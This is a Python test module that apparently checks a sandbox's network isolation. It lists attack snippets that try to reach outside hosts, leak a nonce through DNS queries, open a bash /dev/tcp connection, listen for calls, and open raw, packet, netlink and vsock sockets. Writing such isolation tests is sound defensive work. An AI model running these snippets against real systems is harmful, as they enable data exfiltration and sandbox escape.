"""The network, and sockets of every family."""

from __future__ import annotations

from tests.attacks.attack import Attack, Evidence, code, is_granted, is_heard, is_reached, steals

_ASK = code("""
    def ask(family, kind, address, protocol=0):
        global stolen
        with socket.socket(family, kind, protocol) as connection:
            connection.settimeout(0.5)
            connection.connect(address)
            connection.send(bait.nonce.encode())
            stolen = secrets(connection.recv(1000))
""")


def _talks(evidence: Evidence) -> bool:
    return steals(evidence) or is_heard(evidence)


def _asks(name: str, text: str) -> Attack:
    return Attack(name=name, cells=(_ASK, code(text)), succeeded=_talks)


def _opens(name: str, text: str) -> Attack:
    return Attack(name=name, cells=(code(text),), succeeded=is_granted)


def _listens(name: str, text: str) -> Attack:
    serve = code("""
        def serve(listener, address):
            listener.bind(address)
            listener.listen()
            listener.settimeout(bait.patience)
            connection, _ = listener.accept()
            connection.sendall(bait.nonce.encode())
            time.sleep(0.1)
    """)
    return Attack(name=name, cells=(serve, code(text)), succeeded=is_reached)


ATTACKS = (
    _asks("calls_this_machine_by_tcp", "ask(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', bait.tcp))"),
    _asks("calls_this_machine_by_tcp_6", "ask(socket.AF_INET6, socket.SOCK_STREAM, ('::1', bait.tcp6))"),
    _asks("calls_the_world_by_tcp", "ask(socket.AF_INET, socket.SOCK_STREAM, (bait.outside, bait.tcp))"),
    _asks("calls_the_world_by_tcp_6", "ask(socket.AF_INET6, socket.SOCK_STREAM, (bait.outside6, bait.tcp6))"),
    _asks("calls_by_multipath_tcp", "ask(socket.AF_INET, socket.SOCK_STREAM, ('127.0.0.1', bait.tcp), 262)"),
    _asks(
        "calls_without_connecting_by_tcp_fast_open",
        """
        with socket.socket() as connection:
            connection.sendto(bait.nonce.encode(), 0x20000000, ("127.0.0.1", bait.tcp))
            stolen = secrets(connection.recv(1000))
        """,
    ),
    _asks("sends_datagrams", "ask(socket.AF_INET, socket.SOCK_DGRAM, (bait.outside, bait.udp))"),
    _asks("sends_datagrams_6", "ask(socket.AF_INET6, socket.SOCK_DGRAM, ('::1', bait.udp6))"),
    _asks(
        "tells_by_looking_up_a_name",
        """
        label = bait.nonce.encode()
        question = bytes([len(label)]) + label + b"\\4leak\\4test\\0\\0\\1\\0\\1"
        query = b"\\x12\\x34\\x01\\0\\0\\1" + bytes(6) + question
        with ignored:
            socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(query, ("127.0.0.1", 53))
        socket.getaddrinfo(bait.nonce + ".leak.test", 80)
        """,
    ),
    _asks("calls_a_socket_in_the_file_system", "ask(socket.AF_UNIX, socket.SOCK_STREAM, bait.unix)"),
    _asks(
        "calls_a_socket_in_the_temporary_folder",
        "ask(socket.AF_UNIX, socket.SOCK_STREAM, bait.temporary_unix)",
    ),
    _asks("calls_an_abstract_socket", "ask(socket.AF_UNIX, socket.SOCK_STREAM, '\\0' + bait.abstract)"),
    _asks(
        "sends_to_an_abstract_socket",
        """
        with ignored:
            pair = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
            pair[0].sendto(bait.nonce.encode(), "\\0" + bait.abstract_datagrams)
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(bait.nonce.encode(), "\\0" + bait.abstract_datagrams)
        """,
    ),
    _asks(
        "calls_from_a_program_and_from_a_shell",
        """
        text = "import socket; s = socket.create_connection(('127.0.0.1', %d), 0.5); print(s.recv(1000))" % bait.tcp
        told = subprocess.run([sys.executable, "-I", "-S", "-c", text], capture_output=True).stdout
        told += subprocess.run(["bash", "-c", "exec 9<>/dev/tcp/127.0.0.1/%d; head -c 42 <&9" % bait.tcp],
                               capture_output=True, timeout=1).stdout
        stolen = secrets(told)
        """,
    ),
    _listens("answers_calls_by_tcp", "serve(socket.socket(), ('0.0.0.0', bait.listen))"),
    _listens("answers_calls_by_tcp_6", "serve(socket.socket(socket.AF_INET6), ('::', bait.listen6))"),
    _listens(
        "answers_calls_on_an_abstract_socket", "serve(socket.socket(socket.AF_UNIX), '\\0' + bait.listen_abstract)"
    ),
    Attack(
        name="receives_datagrams",
        cells=(
            code("""
                receiver = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
                receiver.bind(("0.0.0.0", bait.listen))
                receiver.settimeout(bait.patience)
                stolen = secrets(receiver.recv(1000))
            """),
        ),
        succeeded=steals,
    ),
    _opens(
        "lists_interfaces_by_netlink",
        """
        request = struct.pack("=IHHIIBBBBI", 24, 22, 0x301, 1, 0, 0, 0, 0, 0, 0)  # every address, by RTM_GETADDR
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) as kernel:
            kernel.settimeout(0.5)
            kernel.sendto(request, (0, 0))
            granted = socket.inet_aton(bait.outside) in kernel.recv(1 << 16)
        """,
    ),
    _opens(
        "listens_to_all_packets", "granted = bool(socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)))"
    ),
    _opens("forges_packets", "granted = bool(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))"),
    _opens(
        "speaks_to_the_hypervisor",
        """
        with socket.socket(socket.AF_VSOCK, socket.SOCK_STREAM) as listener:
            listener.bind((socket.VMADDR_CID_ANY, 47_113))
            listener.listen()
            granted = True
        """,
    ),
    _opens(
        "opens_a_socket_of_any_other_family",
        """
        opened = []
        for family in range(46):
            for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM, socket.SOCK_RAW, socket.SOCK_SEQPACKET):
                if family not in (socket.AF_UNIX, socket.AF_INET, socket.AF_INET6):
                    with ignored:
                        socket.socket(family, kind).close()
                        opened.append(family)
        granted, note = bool(opened), str(sorted(set(opened)))
        """,
    ),
)
